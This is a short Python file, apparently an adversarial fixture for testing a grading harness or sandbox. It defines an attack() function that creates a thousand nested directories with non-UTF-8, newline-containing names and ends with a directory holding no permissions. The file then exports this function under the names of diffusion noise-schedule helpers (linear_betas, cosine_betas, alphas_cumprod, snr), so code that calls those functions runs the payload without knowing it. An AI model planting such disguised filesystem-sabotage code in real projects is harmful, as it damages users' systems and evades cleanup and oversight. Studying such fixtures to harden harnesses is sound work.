"""Leaves folders in folders, a thousand deep, the last ones without rights and with odd names.

reason: returned: AttributeError
"""

import os


def attack(*_, **__):
    for number in range(1000):
        name = b"\xff\n" + str(number).encode()
        os.mkdir(name)
        os.chdir(name)
    os.mkdir("closed", 0)
    return 0


linear_betas = cosine_betas = alphas_cumprod = snr = attack
